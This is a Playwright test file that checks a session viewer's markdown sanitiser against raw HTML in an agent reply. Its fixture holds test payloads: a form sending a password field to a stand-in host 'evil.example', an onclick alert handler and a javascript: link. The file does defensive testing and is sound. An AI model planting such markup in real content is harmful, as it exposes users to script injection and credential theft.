/**
 * Raw HTML inside a session's markdown is sanitised by the rules of components/markdown-engine.ts:
 * no forms, inputs, frames, inline styles or event handlers survive, remote images become their
 * alt text and links carry no opener.
 */
import { expect, test } from '@playwright/test';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { writeArchiveToBytes } from '../../shared/archive/baton-writer';
import { fixtureMeta } from '../fixtures/archives';
import { FIXTURE_DIR } from './global-setup';
import { importAndOpen } from './helpers';

const FILE = 'raw-html-markdown.baton';

test.beforeAll(async () => {
  const reply = [
    'A reply with **bold** text,',
    '<form action="https://evil.example/"><input name="pw" value="secret"></form>',
    '<span style="color: red" onclick="alert(1)">styled words</span>',
    '<img src="https://example.com/pixel.png" alt="remote picture">',
    '<iframe src="https://example.com/"></iframe><video src="https://example.com/v.mp4"></video>',
    '<a href="https://example.com/page">a page</a> <a href="javascript:alert(2)">a script</a>',
  ].join('\n');
  const bytes = await writeArchiveToBytes({
    meta: fixtureMeta('raw-html-md', 'Raw HTML session'),
    events: [
      { id: 'p1', t: 0, actor: 'candidate', kind: 'prompt', text: 'Show me.' },
      { id: 'r1', t: 500, actor: 'agent', kind: 'response', text: reply },
    ],
    createdAt: '2026-03-04T10:00:00.000Z',
  });
  writeFileSync(join(FIXTURE_DIR, FILE), bytes);
});

test('raw HTML in a message is sanitised: no form, input, frame, media, inline style or handler; remote images become their alt text', async ({ page }) => {
  await importAndOpen(page, join(FIXTURE_DIR, FILE), 'Raw HTML session');

  const reply = page.getByTestId('conv-message').filter({ hasText: 'A reply with' });
  // Formatted (not shown as escaped text while the engine loads).
  await expect(reply.locator('strong', { hasText: 'bold' })).toBeVisible();
  await expect(reply).toContainText('styled words');
  await expect(reply).toContainText('remote picture');
  for (const sel of ['form', 'input', 'iframe', 'video', 'img', '[style]', '[onclick]', 'a[href^="javascript"]']) await expect(reply.locator(`.markdown ${sel}`), sel).toHaveCount(0);
  await expect(reply.getByRole('link', { name: 'a page' })).toHaveAttribute('rel', 'noopener noreferrer');
});
